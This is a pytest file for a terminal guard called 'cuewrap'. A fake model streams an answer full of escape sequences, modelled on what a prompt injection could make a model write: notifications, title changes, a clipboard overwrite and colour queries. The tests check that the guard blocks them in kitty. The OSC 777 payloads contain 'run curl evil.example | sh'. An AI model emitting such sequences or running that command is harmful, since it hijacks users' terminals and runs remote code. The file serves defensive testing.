"""The guard as a user sees it: real kitty under Xvfb, a real dunst on a private bus, real Pi
under ``cuewrap pi`` with the bridge, the user away, and the fake model's answer carrying what
a prompt injection can make a model write (docs/terminal-guard.md, "Whose sequence is it",
"How terminals read the number", "Content that acts outside the window").

Each sequence sits behind a hand-made frame end (``ESC [ ? 2026 l`` … ``ESC [ ? 2026 h``),
once as written and once in kitty's spelling without ``;`` after the number: an OSC 777 and
an OSC 99 notification, OSC 0/2 titles, an OSC 52 clipboard write and colour queries. What is
read is what the user's desktop shows: dunst's notifications, the window's title property
(polled while the answer streams), the X clipboard (``xclip``) and kitty's own screen text
(``kitty @ get-text`` over a socket).

The second test turns the guard off (``allow``) and shows kitty really acts on them, so the
first cannot pass whatever cuewrap does.
"""

from __future__ import annotations

import base64
import re
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from desktoprig import Session, need, stop
from fakemodel import FakeModel, text, tool_call
from termrig import Term, cuewrap_pi, notifications_now, quit_pi, ready, received, x
from termscan import FRAME_AGAIN, FRAME_END
from waiting import absence_window, wait_until

pytestmark = pytest.mark.realterm

CLIP = "EVIL-CLIP"
B64 = base64.b64encode(CLIP.encode()).decode()
SEED = "the user's own clipboard"
MODEL_TITLE = "owned by the model"
POPUP = "evil popup"

#: the model's sequences, each named by what it should do in kitty
AS_WRITTEN = {
    "osc777": f"\x1b]777;notify;{POPUP} 777;run curl evil.example | sh\x07",
    "osc99": f"\x1b]99;;{POPUP} 99\x1b\\",
    "osc0": f"\x1b]0;{MODEL_TITLE} 0\x07",
    "osc2": f"\x1b]2;{MODEL_TITLE} 2\x1b\\",
    "osc52": f"\x1b]52;c;{B64}\x07",
    "osc11 query": "\x1b]11;?\x1b\\",
    "osc10 query": "\x1b]10;?\x07",
}
#: kitty reads the leading digits as the number, the ``;`` after them is optional
NO_SEMICOLON = {
    "osc777": f"\x1b]777notify;{POPUP} 777 no semicolon;run curl evil.example | sh\x07",
    "osc99": f"\x1b]99i=9:d=1;{POPUP} 99 no semicolon\x1b\\",
    "osc2": f"\x1b]2{MODEL_TITLE} 2 no semicolon\x07",
    "osc52": f"\x1b]52c;{B64}\x07",
    "osc11 query": "\x1b]11?\x1b\\",
}
SHOWN = "and that is all."
ATTACK = (
    "Here is the summary "
    + "".join(FRAME_END + s + FRAME_AGAIN for s in [*AS_WRITTEN.values(), *NO_SEMICOLON.values()])
    + SHOWN
)


def clipboard(env: dict[str, str]) -> str:
    done = subprocess.run(["xclip", "-o", "-selection", "clipboard"], env=env,
                          capture_output=True, text=True, timeout=20)  # fmt: skip
    return done.stdout if done.returncode == 0 else f"<none: {done.stderr.strip()}>"


@pytest.fixture
def seeded(xdesk: Session) -> Iterator[Session]:
    """The X clipboard holds SEED, owned by an ``xclip`` until someone else takes it."""
    need("xclip")
    owner = subprocess.Popen(["xclip", "-quiet", "-i", "-selection", "clipboard"],
                             env=xdesk.env, stdin=subprocess.PIPE,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    assert owner.stdin is not None
    owner.stdin.write(SEED.encode())
    owner.stdin.close()
    wait_until(lambda: clipboard(xdesk.env) == SEED, 15, "the seeded clipboard")
    yield xdesk
    stop(owner)


def names(env: dict[str, str], wid: str) -> list[str]:
    """The window's title as a desktop reads it: ``_NET_WM_NAME`` and ``WM_NAME``."""
    out = x(env, "xprop", "-id", wid, "_NET_WM_NAME", "WM_NAME")
    return re.findall(r'= "(.*)"$', out, re.MULTILINE)


class Titles:
    """Every title the window showed, polled in a thread until ``stop()``."""

    def __init__(self, t: Term) -> None:
        self.seen: list[str] = []
        self.errors: list[str] = []
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._poll, args=(t,), daemon=True)
        self._thread.start()

    def _poll(self, t: Term) -> None:
        while not self._done.wait(0.1):
            try:
                for name in names(t.env, t.wid):
                    if name not in self.seen:
                        self.seen.append(name)
            except Exception as e:  # reported by stop()
                self.errors.append(repr(e))

    def stop(self) -> list[str]:
        self._done.set()
        self._thread.join(10)
        assert not self.errors, self.errors
        return self.seen


def kitty(launch: Any, tmp_path: Path, env: dict[str, str] | None = None) -> tuple[Term, Path]:
    """``cuewrap pi`` in kitty, its screen readable over a remote-control socket."""
    sock = tmp_path / "kitty.sock"
    # --listen-on, not listen_on: in kitty.conf kitty adds its pid to the path
    options = ["-o", "allow_remote_control=yes", "--listen-on", f"unix:{sock}"]
    t: Term = launch("kitty", cuewrap_pi(), env=env, options=options)
    return t, sock


def screen(t: Term, sock: Path) -> str:
    """What kitty's window shows, scrollback included (kitty's own reading of it)."""
    return x(t.env, "kitty", "@", "--to", f"unix:{sock}", "get-text", "--extent", "all")


def attacked(t: Term, fakemodel: FakeModel) -> Titles:
    """The user sends a prompt and leaves; the answer streams the attack while away; the run
    finished (its cue recorded). The titles watched from the prompt on."""
    titles = Titles(t)
    fakemodel.push(tool_call("bash", {"command": "sleep 2"}), text(ATTACK, chunk_delay=0.05))
    t.type("summarise")
    t.key("Return")
    wait_until(lambda: t.records("run"), 15, "the run started")
    t.focus(False)
    wait_until(lambda: t.records("cue"), 60, "the finished cue",
               detail=lambda: str([r.get("kind") for r in t.records()][-30:]))  # fmt: skip
    return titles


def test_kitty_shows_the_user_none_of_the_models_sequences(
    launch: Any, fakemodel: FakeModel, seeded: Session, tmp_path: Path
) -> None:
    t, sock = kitty(launch, tmp_path)
    ready(t)
    titles = attacked(t, fakemodel)
    wait_until(lambda: SHOWN in screen(t, sock), 30, "the answer on kitty's screen")
    wait_until(lambda: received(seeded.env) >= 1, 15, "the cue's popup")
    absence_window(2.0, "another popup")
    seen = titles.stop()
    assert not [s for s in seen if MODEL_TITLE in s], seen
    assert names(t.env, t.wid) == ["[✓] π - work"] * 2, names(t.env, t.wid)
    assert clipboard(seeded.env) == SEED
    shown = screen(t, sock)
    assert "rgb:" not in shown, shown
    assert [c["cue"] for c in t.records("cue")] == ["finished"]
    guarded = {r["sequence"] for r in t.records("guard")}
    assert {"osc777", "osc99", "osc0", "osc2"} <= guarded, guarded
    clip = t.records("clipboard")
    assert clip and not any(r["passed"] for r in clip), clip
    t.focus(True)
    quit_pi(t)
    # kitty's own popup of cuewrap's Finished, and nothing with the model's text
    got = notifications_now(seeded.env)
    assert len(got) == 1, got
    [popup] = got
    assert popup["appname"] == "kitty", popup
    assert "evil" not in popup["summary"] + popup["body"], popup


@pytest.mark.parametrize("pi_version", ["1.4.0"])
def test_kitty_acts_on_them_when_the_guard_allows_them(
    launch: Any, fakemodel: FakeModel, seeded: Session, tmp_path: Path
) -> None:
    """``guard.sequences = allow``, ``guard.clipboard = allow``: the same answer gives popups
    with the model's text, the model's window title and its clipboard content."""
    allow = {"CUEWRAP_GUARD_SEQUENCES": "allow", "CUEWRAP_GUARD_CLIPBOARD": "allow"}
    t, sock = kitty(launch, tmp_path, env=allow)
    ready(t)
    titles = attacked(t, fakemodel)
    wait_until(lambda: SHOWN in screen(t, sock), 30, "the answer on kitty's screen")
    wait_until(lambda: clipboard(seeded.env) == CLIP, 15, "the model's clipboard content",
               detail=lambda: clipboard(seeded.env))  # fmt: skip
    wait_until(lambda: received(seeded.env) >= 2, 15, "the model's popups")
    absence_window(2.0, "more popups")
    seen = titles.stop()
    # OSC 2 in both spellings (Pi redraws the line as it streams: cut-short titles too); the
    # OSC 0 just before OSC 2 is replaced too soon to be polled
    assert f"{MODEL_TITLE} 2" in seen, seen
    assert any(s.startswith(f"{MODEL_TITLE} 2 no") for s in seen), seen
    assert t.records("guard") == []
    # no "rgb:" reaches Pi's editor here either: whatever kitty answers to the colour
    # queries, Pi takes it as a terminal answer, not as typed text (the check in the test
    # above guards against a change there; it is not shown to fail without the guard)
    t.focus(True)
    quit_pi(t)
    got = {n["summary"] for n in notifications_now(seeded.env) if n["appname"] == "kitty"}
    popups = {f"{POPUP} {kind}" for kind in ("777", "99", "777 no semicolon", "99 no semicolon")}
    assert popups <= got, got
